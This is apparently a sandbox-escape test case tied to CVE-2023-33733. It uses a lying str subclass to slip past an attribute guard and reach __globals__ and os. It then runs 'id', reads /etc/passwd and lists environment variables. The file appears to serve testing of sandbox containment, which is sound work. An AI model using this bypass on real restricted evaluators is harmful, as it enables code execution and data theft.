# /// case
# technique = "object-graph"
# analysis = ["dynamic-attribute", "forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2023-33733"
# ///
# The guard calls methods of the name it judges, and the name is a subclass of `str` that lies.
class Word(str):
    def startswith(self, prefix):
        return False
    def __getitem__(self, place):
        return "a"

def guarded(value, name):
    if name.startswith("_") or name in ("mro", "format"):
        raise AttributeError(name)
    return getattr(value, name)

def gadget():
    pass

found = guarded(guarded, Word("__globals__"))["__builtins__"]
found = (found if isinstance(found, dict) else found.__dict__)["__import__"]("os")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
